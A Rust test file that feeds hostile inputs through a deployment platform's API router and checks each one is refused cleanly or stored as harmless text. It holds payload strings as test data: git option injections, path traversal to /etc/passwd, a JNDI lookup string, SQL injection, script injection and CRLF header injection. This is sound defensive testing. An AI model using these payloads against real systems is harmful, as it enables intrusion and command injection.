//! Hostile input through the whole router: refused in our words, or kept as the harmless text it
//! is; never a fault, and nothing half written.

use axum::{
    body::Body,
    http::{Method, StatusCode, header},
};
use serde_json::{Value, json};

use crate::{
    contract::is_error,
    harness::{Answer, TestApi, id},
};

/// Texts that have broken other services.
fn texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "",
        " ",
        "\0",
        "a\0b",
        "\u{1}\u{2}\u{7f}",
        "a\r\nSet-Cookie: x=1",
        "\u{1b}[2J",
        "\u{202e}txt.exe",
        "\u{200b}",
        "\u{feff}main",
        "--upload-pack=touch /tmp/x",
        "-oProxyCommand=touch /tmp/x",
        "ext::sh -c touch% /tmp/x",
        "file:///etc/passwd",
        "/etc/passwd",
        "../../../etc/passwd",
        "..\\..\\windows",
        "%2e%2e%2f",
        "${jndi:ldap://x.example/a}",
        "'; DROP TABLE projects; --",
        "<script>alert(1)</script>",
        "null",
        "proj_01kdvdna000000000000000003'--",
        "999999999999999999999999",
        "https://user:password@git.example.com/shop.git",
        "https://git.example.com:99999/shop.git",
        "http://[::1/shop.git",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    texts.push("a".repeat(900_000));
    texts.push("\u{1f980}".repeat(200_000));
    texts
}

/// JSON values that are no text.
fn values() -> Vec<Value> {
    vec![
        Value::Null,
        json!(true),
        json!(0),
        json!(-1),
        json!(1.5),
        json!(u64::MAX),
        json!(f64::MAX),
        json!([]),
        json!([[[[[[[[]]]]]]]]),
        json!({}),
        json!({ "$ne": null }),
    ]
}

/// An operation with a body that it accepts.
struct Target {
    method: Method,
    path: String,
    body: Value,
}

async fn targets(api: &TestApi) -> Vec<Target> {
    let project = api.project("shop").await;
    let target = |method, path: String, body| Target { method, path, body };
    vec![
        target(
            Method::POST,
            "/api/projects".to_owned(),
            json!({
                "name": "a", "git_url": "https://x.example/a", "github_repo": "o/a",
                "default_branch": "main", "dockerfile": "Dockerfile", "build_context": ".",
                "services": { "postgres": true }, "build_command": "make", "start_command": "run",
                "health_path": "/", "port": 1, "resources": { "cpu": 1, "memory_mb": 64 },
                "build_resources": { "cpu": 1, "memory_mb": 64, "timeout_seconds": 1 },
                "previews": {
                    "enabled": true, "branches": ["feature/*"], "limit": 1, "ttl_seconds": 60,
                    "idle_pause_seconds": 60,
                },
                "hooks": { "on_new": "make seed", "on_deploy": "make migrate" },
            }),
        ),
        target(
            Method::PATCH,
            format!("/api/projects/{project}"),
            json!({ "name": "a", "port": 1 }),
        ),
        target(
            Method::POST,
            format!("/api/projects/{project}/environments"),
            json!({ "branch": "main" }),
        ),
        target(
            Method::PUT,
            format!("/api/projects/{project}/env-vars"),
            json!({ "key": "A", "value": "b", "environment_id": "env_1", "previews": false }),
        ),
        target(
            Method::POST,
            "/api/auth/api-keys".to_owned(),
            json!({
                "name": "a", "scopes": ["read"], "project_ids": [project],
                "expires_at": "2027-01-01T00:00:00Z",
            }),
        ),
    ]
}

/// Everything that lists show, to compare before and after.
async fn everything(api: &TestApi) -> Vec<Value> {
    let mut all = Vec::new();
    for path in ["/api/projects", "/api/auth/api-keys"] {
        all.push(api.get(path).await.body);
    }
    let projects = all[0].as_array().unwrap().clone();
    for project in projects {
        let id = project["id"].as_str().unwrap();
        for part in ["environments", "env-vars"] {
            all.push(api.get(&format!("/api/projects/{id}/{part}")).await.body);
        }
    }
    all
}

fn assert_refused(answer: &Answer, what: &str) {
    assert!(answer.status.is_client_error(), "{what}: {} {}", answer.status, answer.body);
    assert!(is_error(&answer.body), "{what}: {}", answer.body);
    assert!(answer.body.to_string().len() < 5_000, "{what}: the error repeats its input");
}

#[tokio::test]
async fn in_fields() {
    let api = TestApi::start("hostile_fields").await;
    for target in targets(&api).await {
        let mut before = everything(&api).await;
        for field in target.body.as_object().unwrap().keys() {
            let hostile = texts().into_iter().map(Value::String).chain(values());
            for value in hostile {
                let mut body = target.body.clone();
                // The two forms of a source would only contradict one another.
                if field != "github_repo" {
                    body.as_object_mut().unwrap().remove("github_repo");
                }
                body[field] = value.clone();
                let what = format!("{} {field}={value:.60}", target.path);
                let answer =
                    api.send(&api.owner, target.method.clone(), &target.path, Some(body)).await;
                if answer.status.is_success() {
                    assert_harmless(&answer, field, &value, &what);
                } else {
                    assert_refused(&answer, &what);
                    assert_eq!(everything(&api).await, before, "{what}");
                }
                if answer.status.is_success() {
                    undo(&api, &target, &answer).await;
                    before = everything(&api).await;
                }
            }
        }
    }
}

/// What was accepted is shown again as it was given, and can do no harm where it goes: to a
/// person's screen, a shell that is meant to run it, or the command line of git.
fn assert_harmless(answer: &Answer, field: &str, value: &Value, what: &str) {
    let Some(text) = value.as_str() else { return };
    let is_harmless = match field {
        "value" => !text.contains('\0'),
        "build_command" | "start_command" => !text.contains(['\0', '\r', '\u{1b}']),
        "name" | "dockerfile" | "build_context" => !text.chars().any(char::is_control),
        "branch" | "default_branch" => {
            let is_option = text.starts_with('-');
            !is_option && !text.contains("..") && !text.contains([':', ' ', '\0', '\u{202e}'])
        }
        "health_path" => text.starts_with('/') && text.chars().all(|c| c.is_ascii_graphic()),
        _ => false,
    };
    assert!(is_harmless, "{what} was accepted");
    if field != "value" {
        let shown = &answer.body[field];
        assert_eq!(shown, value, "{what}");
    }
}

/// Keeps lists short.
async fn undo(api: &TestApi, target: &Target, answer: &Answer) {
    if target.path == "/api/projects" {
        api.delete(&format!("/api/projects/{}", id(answer))).await;
    }
}

#[tokio::test]
async fn in_bodies() {
    let api = TestApi::start("hostile_bodies").await;
    let deep_array = "[".repeat(200_000);
    let deep_object = r#"{"services":"#.repeat(50_000);
    let bodies: Vec<Vec<u8>> = vec![
        b"".to_vec(),
        b"null".to_vec(),
        b"[]".to_vec(),
        b"\"text\"".to_vec(),
        b"\xff\xfe\x00".to_vec(),
        b"\xef\xbb\xbf{}".to_vec(),
        b"{\"name\":\"\xc3\x28\"}".to_vec(),
        b"{\"name\":\"\\ud800\"}".to_vec(),
        b"{\"name\":\"a\",\"name\":\"b\"}".to_vec(),
        b"{\"__proto__\":{}}".to_vec(),
        b"{\"name\":NaN}".to_vec(),
        b"{'name':'a'}".to_vec(),
        b"{\"name\":\"a\"}{\"name\":\"b\"}".to_vec(),
        deep_array.into_bytes(),
        deep_object.into_bytes(),
    ];
    for target in targets(&api).await {
        let before = everything(&api).await;
        for body in &bodies {
            let request = TestApi::request(&api.owner, target.method.clone(), &target.path)
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from(body.clone()));
            let answer = api.answer(request.unwrap()).await;
            let shown = String::from_utf8_lossy(body.get(..40).unwrap_or(body));
            assert_refused(&answer, &format!("{} {shown}", target.path));
            assert_eq!(everything(&api).await, before);
        }
    }
}

fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |text, byte| text + &format!("%{byte:02x}"))
}

/// A path with the same text in the place of each of its parameters.
fn with_parameters(template: &str, text: &str) -> String {
    let parts = template.split('/').map(|part| if part.starts_with('{') { text } else { part });
    parts.collect::<Vec<_>>().join("/")
}

#[tokio::test]
async fn in_paths_and_queries() {
    let api = TestApi::start("hostile_paths").await;
    let mut parts: Vec<String> = texts()
        .iter()
        .filter(|text| !text.is_empty())
        .map(|text| encoded(&text.chars().take(1_000).collect::<String>()))
        .collect();
    parts.extend(["%ff%fe", "%c3%28", "%", "%zz", "%00"].map(str::to_owned));

    let rows = windlass_http::permissions();
    for row in rows.iter().filter(|row| row.permission.is_some()) {
        let method: Method = row.method.parse().unwrap();
        for part in &parts {
            let what = format!("{} {} {part:.60}", row.method, row.path);
            if row.path.contains("{id}") {
                let path = with_parameters(&row.path, part);
                let answer = api.send(&api.owner, method.clone(), &path, None).await;
                assert_refused(&answer, &what);
            }
            for name in ["limit", "cursor", "wait", "after_seq", "from", "x", part] {
                let path = with_parameters(&row.path, "a");
                let path = format!("{path}?{name}={part}");
                let answer = api.send(&api.owner, method.clone(), &path, None).await;
                assert_refused(&answer, &format!("{what} in the query's {name:.60}"));
            }
        }
    }
    assert_eq!(api.get("/api/projects").await.body, json!([]));
}

#[tokio::test]
async fn in_headers() {
    let api = TestApi::start("hostile_headers").await;
    let project = api.project("shop").await;
    let path = format!("/api/projects/{project}");
    for name in
        ["if-none-match", "if-match", "last-event-id", "accept", "content-type", "x-request-id"]
    {
        for value in [&b"\xff\xfe"[..], b"\"", b"\",", b"W/", b"\t", &[b'a'; 8_000], b"*/*;q=9e99"]
        {
            let request = TestApi::request(&api.owner, Method::GET, &path)
                .header(name, value)
                .body(Body::empty());
            let answer = api.answer(request.unwrap()).await;
            let is_fine = answer.status == StatusCode::OK || answer.status.is_client_error();
            assert!(is_fine, "{name}: {}", answer.status);
        }
    }
}
